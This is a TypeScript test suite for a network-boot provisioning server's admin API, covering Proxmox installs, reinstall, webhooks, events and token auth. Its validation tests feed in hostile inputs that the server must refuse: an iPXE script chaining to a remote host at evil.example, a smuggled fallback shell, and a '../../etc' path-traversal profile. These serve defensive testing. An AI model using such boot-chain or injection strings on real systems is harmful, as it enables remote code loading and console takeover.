// The node lifecycle as an operator drives it: boot, answer, webhook, reinstall, local boot, events.
// Every test gets a server and store of its own and brings its machines to the state it needs, so
// each runs alone by name and in any order (scripts/test-isolation.mjs checks both).
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import { startHttp, type RunningHttp } from '../helpers/http.ts';
import { rawRequest } from '../helpers/raw-http.ts';
import { makeAnswerTree, post, type AnswerTree } from '../helpers/answer-tree.ts';
import { hostEntry } from '../helpers/profile.ts';
import { adminRoutes, concretePath } from '../helpers/admin-routes.ts';
import { Store } from '../../src/store/store.ts';

const RACK1 = '52:54:00:bb:00:01';
const STRANGER = '52:54:00:bb:00:02';
const DEBIAN = '52:54:00:bb:00:03';

const webhookFixture = JSON.parse(readFileSync(new URL('../fixtures/proxmox/post-install-webhook.json', import.meta.url), 'utf8')) as Record<string, unknown>;

async function boot(h: RunningHttp, mac: string): Promise<string> {
  const r = await rawRequest(h.port, 'GET', `/boot?mac=${mac.replace(/:/g, '-')}&arch=x86_64&platform=efi`);
  assert.equal(r.status, 200);
  return r.text;
}

async function json(
  h: RunningHttp,
  method: string,
  path: string,
  body?: unknown,
  headers: Record<string, string> = {},
): Promise<{ status: number; body: Record<string, unknown> }> {
  const res = await fetch(h.base + path, {
    method,
    headers: { 'content-type': 'application/json', ...headers },
    ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
  });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

const answerRequest = (mac: string) => ({ product: { product: 'pve' }, iso: { release: '9.1', isorelease: '1' }, network_interfaces: [{ link: 'eno1', mac }] });
const webhook = (mac: string, fqdn: string) => ({ ...webhookFixture, fqdn, 'network-interfaces': [{ name: 'nic0', mac, 'is-management': true }] });

/** A machine whose [host] says install goes through it as it would: boot, answer fetch, the installed system's webhook. */
async function installThroughBoot(h: RunningHttp, mac: string, fqdn: string): Promise<void> {
  assert.match(await boot(h, mac), /kernel /);
  assert.equal((await post(h.base, '/answer', answerRequest(mac))).status, 200);
  assert.equal((await post(h.base, '/webhook/proxmox', webhook(mac, fqdn))).status, 200);
  assert.equal(h.store.getNode(mac)?.state, 'installed');
}

describe('node lifecycle through the admin API', () => {
  let tree: AnswerTree;
  let h: RunningHttp;

  before(() => {
    tree = makeAnswerTree({ 'default.toml': '[global]\nfqdn = "{{hostname}}.rack.example"\n' }, ['proxmox-ve/9.1-1', 'proxmox-ve/8.4-1', 'debian/13']);
  });
  after(() => tree.remove());
  beforeEach(async () => {
    h = await startHttp({
      answers: { dir: tree.answers },
      assets: { dir: tree.assets },
      hosts: [hostEntry(RACK1, { hostname: 'pve1', action: 'install', profile: 'proxmox-ve/9.1-1' }), hostEntry(DEBIAN, { hostname: 'deb1', action: 'local' })],
    });
  });
  afterEach(async () => {
    await h.stop();
  });

  test('install once: boot installs, the answer fetch consumes it, the next boot gets local disk; the webhook marks it installed', async () => {
    // A [host] with action=install that never booted is known to the operator but not to the store.
    assert.equal((await json(h, 'GET', `/nodes/${RACK1}`)).body.state, 'unknown');

    assert.match(await boot(h, RACK1), /kernel .*proxmox-ve\/9\.1-1\/vmlinuz/);
    assert.equal((await json(h, 'GET', `/nodes/${RACK1}`)).body.state, 'install-pending');
    // Booting again before the answer was fetched (installer crashed) still installs.
    assert.match(await boot(h, RACK1), /kernel /);

    const answer = await post(h.base, '/answer', answerRequest(RACK1));
    assert.equal(answer.status, 200);
    assert.equal(answer.text, '[global]\nfqdn = "pve1.rack.example"\n');
    const installing = (await json(h, 'GET', `/nodes/${RACK1}`)).body;
    assert.equal(installing.state, 'installing');
    const answerEvent = h.store.events({ mac: RACK1, protocol: 'answer' }).at(-1)!;
    assert.match(answerEvent.reason, /served default\.toml .*install consumed for 52:54:00:bb:00:01 \(armed by profile, profile proxmox-ve\/9\.1-1\)/);

    // The installer reboots, the firmware still PXE-boots first: local disk, with the reason.
    const again = await boot(h, RACK1);
    assert.doesNotMatch(again, /kernel /);
    assert.match(again, /local disk: install consumed: answer fetched at .*\nexit\n$/);

    const hook = await post(h.base, '/webhook/proxmox', webhook(RACK1, 'pve1.rack.example'));
    assert.equal(hook.status, 200);
    const node = (await json(h, 'GET', `/nodes/${RACK1}`)).body;
    assert.equal(node.state, 'installed');
    assert.equal(node.fqdn, 'pve1.rack.example');
    assert.equal(node.bootMode, 'efi');
    assert.equal(typeof node.installedAt, 'string');
    assert.equal((node.installReport as { 'machine-id': string })['machine-id'], webhookFixture['machine-id']);
    const installs = node.installs as { profile: string; armedBy: string; consumedAt: string | null; installedAt: string | null; fqdn: string }[];
    assert.equal(installs.length, 1);
    assert.equal(installs[0]!.profile, 'proxmox-ve/9.1-1');
    assert.ok(installs[0]!.consumedAt && installs[0]!.installedAt);
    assert.deepEqual(
      (node.events as { protocol: string }[]).map((e) => e.protocol),
      ['http', 'http', 'answer', 'http', 'webhook'],
    );
    assert.match(await boot(h, RACK1), /local disk: installed at/);
  });

  test('reinstall re-arms once with the chosen profile; the next answer fetch consumes it again', async () => {
    await installThroughBoot(h, RACK1, 'pve1.rack.example');
    const armed = await json(h, 'POST', `/nodes/${RACK1}/reinstall`, { profile: 'proxmox-ve/8.4-1' });
    assert.equal(armed.status, 200);
    assert.equal(armed.body.state, 'install-pending');
    assert.equal(armed.body.profile, 'proxmox-ve/8.4-1');
    assert.match(h.store.events({ mac: RACK1, protocol: 'admin' }).at(-1)!.reason, /reinstall armed by admin, profile proxmox-ve\/8\.4-1/);
    assert.match(await boot(h, RACK1), /kernel .*proxmox-ve\/8\.4-1\/vmlinuz/);
    assert.equal((await post(h.base, '/answer', answerRequest(RACK1))).status, 200);
    assert.doesNotMatch(await boot(h, RACK1), /kernel /);
    const installs = (await json(h, 'GET', `/nodes/${RACK1}`)).body.installs as { profile: string; armedBy: string }[];
    assert.deepEqual(
      installs.map((i) => [i.profile, i.armedBy]),
      [
        ['proxmox-ve/9.1-1', 'profile'],
        ['proxmox-ve/8.4-1', 'admin'],
      ],
    );
  });

  test('an answer fetched by a machine that is not install-pending is served, and the event says so', async () => {
    const r = await post(h.base, '/answer', answerRequest(STRANGER));
    assert.equal(r.status, 400, 'default.toml needs {{hostname}}, which a stranger does not have');
    await boot(h, DEBIAN);
    const ok = await post(h.base, '/answer', answerRequest(DEBIAN));
    assert.equal(ok.status, 200);
    assert.match(h.store.events({ mac: DEBIAN, protocol: 'answer' }).at(-1)!.reason, /is seen, not install-pending: the installer was started by hand/);
    assert.equal(h.store.getNode(DEBIAN)?.state, 'seen');
  });

  test('DELETE reinstall cancels a pending install and is harmless otherwise', async () => {
    // DEBIAN booted once: action=local, so seen.
    assert.match(await boot(h, DEBIAN), /has action=local/);
    await json(h, 'POST', `/nodes/${DEBIAN}/reinstall`, { profile: 'debian/13' });
    const cancelled = await json(h, 'DELETE', `/nodes/${DEBIAN}/reinstall`);
    assert.equal(cancelled.body.state, 'seen');
    assert.match(await boot(h, DEBIAN), /local disk: host 52:54:00:bb:00:03 has action=local/);
    const again = await json(h, 'DELETE', `/nodes/${DEBIAN}/reinstall`);
    assert.equal(again.status, 200);
    assert.match(h.store.events({ mac: DEBIAN, protocol: 'admin' }).at(-1)!.reason, /nothing to cancel/);
    assert.equal((await json(h, 'DELETE', '/nodes/52:54:00:bb:00:77/reinstall')).status, 404);
  });

  test('reinstall without a profile uses the [host] one; bad requests are 400s that say why', async () => {
    await installThroughBoot(h, RACK1, 'pve1.rack.example');
    const fromHost = await json(h, 'POST', `/nodes/${RACK1}/reinstall`);
    assert.equal(fromHost.status, 200);
    assert.match(h.store.events({ mac: RACK1, protocol: 'admin' }).at(-1)!.reason, /profile proxmox-ve\/9\.1-1 \(from its \[host\] section\)/);
    await json(h, 'DELETE', `/nodes/${RACK1}/reinstall`);
    const cases: [unknown, RegExp][] = [
      ['{bad', /not valid JSON/],
      ['[]', /expected a JSON object/],
      [{ profile: 42 }, /profile must be/],
      [{ profile: '../../etc' }, /profile must be/],
      [{ profile: 'proxmox-ve/7.0-1' }, /no install image proxmox-ve\/7\.0-1 .*available: .*proxmox-ve\/9\.1-1/],
      [{ profle: 'proxmox-ve/9.1-1' }, /unknown key "profle"/],
    ];
    for (const [body, message] of cases) {
      const r = await json(h, 'POST', `/nodes/${RACK1}/reinstall`, body);
      assert.equal(r.status, 400, JSON.stringify(body));
      assert.match(String(r.body.error), message);
    }
    assert.equal((await json(h, 'POST', '/nodes/not-a-mac/reinstall', {})).status, 400);
    // Cancelled: a node that was installed once goes back to installed (its disk boots).
    assert.equal(h.store.getNode(RACK1)?.state, 'installed');
  });

  test('local-boot: whitelisted sanboot is what local boot runs; anything else is refused; DELETE restores exit', async () => {
    // Installed, so its next boot is the local disk.
    await installThroughBoot(h, RACK1, 'pve1.rack.example');
    const set = await json(h, 'PUT', `/nodes/${RACK1}/local-boot`, { script: 'sanboot --no-describe --drive 0x80' });
    assert.equal(set.status, 200);
    assert.equal(set.body.localBoot, 'sanboot --no-describe --drive 0x80');
    assert.match(await boot(h, RACK1), /\nsanboot --no-describe --drive 0x80\n$/);
    for (const script of ['chain http://evil.example/x', 'sanboot --drive 0x80 || shell', 'shell', 42]) {
      const r = await json(h, 'PUT', `/nodes/${RACK1}/local-boot`, { script });
      assert.equal(r.status, 400, String(script));
      assert.match(String(r.body.error), /local-boot script refused: .*allowed: "exit", or "sanboot"/);
    }
    assert.equal((await json(h, 'PUT', `/nodes/${RACK1}/local-boot`, {})).status, 400);
    const reset = await json(h, 'DELETE', `/nodes/${RACK1}/local-boot`);
    assert.equal(reset.body.localBoot, null);
    assert.match(await boot(h, RACK1), /\nexit\n$/);
    // A machine not seen yet can be prepared before it boots.
    assert.equal((await json(h, 'PUT', '/nodes/52-54-00-bb-00-50/local-boot', { script: 'exit' })).status, 200);
  });

  test('GET /nodes lists every node, filtered by state; unknown nodes are 404', async () => {
    await installThroughBoot(h, RACK1, 'pve1.rack.example');
    await boot(h, DEBIAN);
    await boot(h, STRANGER);
    const all = await json(h, 'GET', '/nodes');
    assert.equal(all.status, 200);
    const nodes = all.body.nodes as { mac: string; state: string; hostname: string | null; lastSeen: string; lastIp: string | null; firmware: string | null }[];
    assert.deepEqual(nodes.map((n) => n.mac).sort(), [RACK1, STRANGER, DEBIAN].sort());
    assert.equal(all.body.total, 3);
    const rack1 = nodes.find((n) => n.mac === RACK1)!;
    assert.deepEqual([rack1.state, rack1.hostname, rack1.lastIp, rack1.firmware], ['installed', 'pve1', '127.0.0.1', 'uefi']);
    const installed = await json(h, 'GET', '/nodes?state=installed');
    assert.deepEqual(
      (installed.body.nodes as { mac: string }[]).map((n) => n.mac),
      [RACK1],
    );
    assert.equal(installed.body.total, 1);
    assert.equal((await json(h, 'GET', '/nodes?state=bogus')).status, 400);
    assert.equal((await json(h, 'GET', '/nodes?limit=0')).status, 400);
    assert.equal((await json(h, 'GET', '/nodes/52:54:00:bb:00:99')).status, 404);
    assert.equal((await json(h, 'GET', '/nodes/zz:zz')).status, 400);
  });

  test('GET /events filters by MAC and protocol, newest last, bounded by limit', async () => {
    // Three events from the install (http, answer, webhook), three from the admin, and another machine's boot.
    await installThroughBoot(h, RACK1, 'pve1.rack.example');
    assert.equal((await json(h, 'POST', `/nodes/${RACK1}/reinstall`)).status, 200);
    assert.equal((await json(h, 'DELETE', `/nodes/${RACK1}/reinstall`)).status, 200);
    assert.equal((await json(h, 'PUT', `/nodes/${RACK1}/local-boot`, { script: 'exit' })).status, 200);
    await boot(h, DEBIAN);
    const all = await json(h, 'GET', `/events?mac=${RACK1.replace(/:/g, '-').toUpperCase()}&limit=3`);
    const events = all.body.events as { mac: string; protocol: string; kind: string; time: string; reason: string }[];
    assert.ok(events.every((e) => e.mac === RACK1 && typeof e.time === 'string' && e.reason.length > 0));
    const adminKinds = ['POST /nodes/<mac>/reinstall', 'DELETE /nodes/<mac>/reinstall', 'PUT /nodes/<mac>/local-boot'];
    assert.deepEqual(
      events.map((e) => e.kind),
      adminKinds,
      'the newest three of the six, oldest first',
    );
    const admin = (await json(h, 'GET', `/events?mac=${RACK1}&protocol=admin`)).body.events as { protocol: string; kind: string }[];
    assert.ok(admin.every((e) => e.protocol === 'admin'));
    assert.deepEqual(
      admin.map((e) => e.kind),
      adminKinds,
    );
    const install = (await json(h, 'GET', `/events?mac=${RACK1}`)).body.events as { protocol: string }[];
    assert.deepEqual(
      install.map((e) => e.protocol),
      ['http', 'answer', 'webhook', 'admin', 'admin', 'admin'],
    );
    for (const bad of ['limit=abc', 'limit=20000', 'mac=nope', 'protocol=ftp']) assert.equal((await json(h, 'GET', `/events?${bad}`)).status, 400, bad);
  });

  test("a machine's events and its explain text include the TFTP transfers from its address, not others'", async () => {
    // TFTP names no MAC; RACK1's HTTP requests come from 127.0.0.1.
    await boot(h, RACK1);
    h.store.record({
      mac: null,
      protocol: 'tftp',
      kind: 'RRQ snponly.efi',
      decision: 'served',
      reason: 'snponly.efi 200 kB in 0.1 s',
      detail: { client: '127.0.0.1' },
    });
    h.store.record({ mac: null, protocol: 'tftp', kind: 'RRQ undionly.kpxe', decision: 'served', reason: 'another machine', detail: { client: '10.9.9.9' } });
    h.store.flushEvents();
    const tftp = (await json(h, 'GET', `/events?mac=${RACK1}&protocol=tftp`)).body.events as { kind: string }[];
    assert.deepEqual(
      tftp.map((e) => e.kind),
      ['RRQ snponly.efi'],
    );
    const explain = await fetch(`${h.base}/nodes/${RACK1}/explain`);
    assert.equal(explain.status, 200);
    const text = await explain.text();
    assert.match(text, /TFTP RRQ snponly\.efi from 127\.0\.0\.1 → served/);
    assert.doesNotMatch(text, /another machine/);
    assert.equal((await fetch(`${h.base}/nodes/not-a-mac/explain`)).status, 400);
  });

  test('with [http] admin_token set every admin route needs the Bearer token', async () => {
    await installThroughBoot(h, RACK1, 'pve1.rack.example');
    const before = (await json(h, 'GET', `/nodes/${RACK1}`)).body;
    const token = 'admin-token-0123456789abcdef';
    h.service.reload({ ...h.profile, http: { ...h.profile.http, adminToken: token } });
    // Every admin route the router has (test/helpers/admin-routes.ts), so a new one is covered too.
    for (const { method, pattern } of adminRoutes()) {
      const path = concretePath(pattern, RACK1);
      const body = method === 'PUT' || method === 'POST' ? { script: 'exit', profile: 'proxmox-ve/8.4-1' } : undefined;
      for (const headers of [{}, { authorization: 'Bearer wrong' }] as Record<string, string>[]) {
        const res = await fetch(h.base + path, {
          method,
          headers: { 'content-type': 'application/json', ...headers },
          ...(body ? { body: JSON.stringify(body) } : {}),
        });
        assert.equal(res.status, 401, `${method} ${path} ${JSON.stringify(headers)}`);
        assert.match(String(((await res.json()) as { error: string }).error), /admin API: (send Authorization: Bearer|wrong token)/);
      }
    }
    assert.equal((await json(h, 'GET', `/nodes/${RACK1}`, undefined, { authorization: `Bearer ${token}` })).status, 200);
    h.service.reload({ ...h.profile, http: { ...h.profile.http, adminToken: '' } });
    assert.deepEqual((await json(h, 'GET', `/nodes/${RACK1}`)).body, before, 'refused requests changed nothing');
  });
});

describe('webhook', () => {
  test('the recorded webhook finds the node by its management NIC, or by DMI UUID when no reported NIC is known', async () => {
    const tree = makeAnswerTree({ 'default.toml': 'x = 1\n' });
    const h = await startHttp({ answers: { dir: tree.answers } });
    try {
      // Booted from its second NIC; the installed system reports all three.
      await h.store.applyChange('94:40:c9:3a:51:11', { kind: 'arm', profile: 'proxmox-ve/9.1-1', by: 'admin' });
      await h.store.applyChange('94:40:c9:3a:51:11', { kind: 'consume', profile: null });
      const r = await post(h.base, '/webhook/proxmox', webhookFixture);
      assert.equal(r.status, 200);
      assert.deepEqual(r.json(), { mac: '94:40:c9:3a:51:11', state: 'installed', fqdn: 'pve1.rack.example' });
      assert.match(
        h.store.events({ protocol: 'webhook' }).at(-1)!.reason,
        /pve 9\.1\.1 installed as pve1\.rack\.example, efi with secure boot; node was installing since the answer fetch/,
      );

      h.store.sawNode('bc:24:11:00:00:42', { uuid: '0a0b0c0d-0000-4000-8000-000000000042' }, false);
      await h.store.applyChange('bc:24:11:00:00:42', { kind: 'arm', profile: null, by: 'admin' });
      const byUuid = await post(h.base, '/webhook/proxmox', {
        ...webhookFixture,
        dmi: { system: { uuid: '0A0B0C0D-0000-4000-8000-000000000042' } },
        network_interfaces: [{ mac: 'bc:24:11:ff:ff:ff' }],
        'network-interfaces': undefined,
      });
      assert.equal((byUuid.json() as { mac: string }).mac, 'bc:24:11:00:00:42');
      assert.equal(h.store.getNode('bc:24:11:00:00:42')?.state, 'installed');

      for (const bad of ['nope', '[]', JSON.stringify({ fqdn: 'x' }), JSON.stringify({ 'network-interfaces': {} })]) {
        const res = await post(h.base, '/webhook/proxmox', bad);
        assert.equal(res.status, 400, bad);
      }
    } finally {
      await h.stop();
      tree.remove();
    }
  });
});

describe('unknown nodes are capped', () => {
  test('a flood of strangers evicts the oldest never-installed nodes, never armed or installed ones', async () => {
    const store = Store.open(':memory:', { maxUnknownNodes: 50 });
    const h = await startHttp({}, store);
    try {
      await store.applyChange('52:54:00:cc:00:01', { kind: 'arm', profile: null, by: 'admin' });
      await store.applyChange('52:54:00:cc:00:02', { kind: 'complete', fqdn: 'keep.example', bootMode: null, report: null });
      for (let i = 0; i < 300; i++) await boot(h, `02:00:00:00:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`);
      store.flushEvents();
      assert.ok(store.countNodes() <= 52, `node table holds ${store.countNodes()}`);
      assert.equal(store.getNode('52:54:00:cc:00:01')?.state, 'install-pending');
      assert.equal(store.getNode('52:54:00:cc:00:02')?.state, 'installed');
      assert.ok(store.getNode('02:00:00:00:01:2b'), 'the newest stranger is kept');
      assert.equal(store.getNode('02:00:00:00:00:00'), undefined, 'the oldest stranger is gone');
    } finally {
      await h.stop();
      store.close();
    }
  });
});
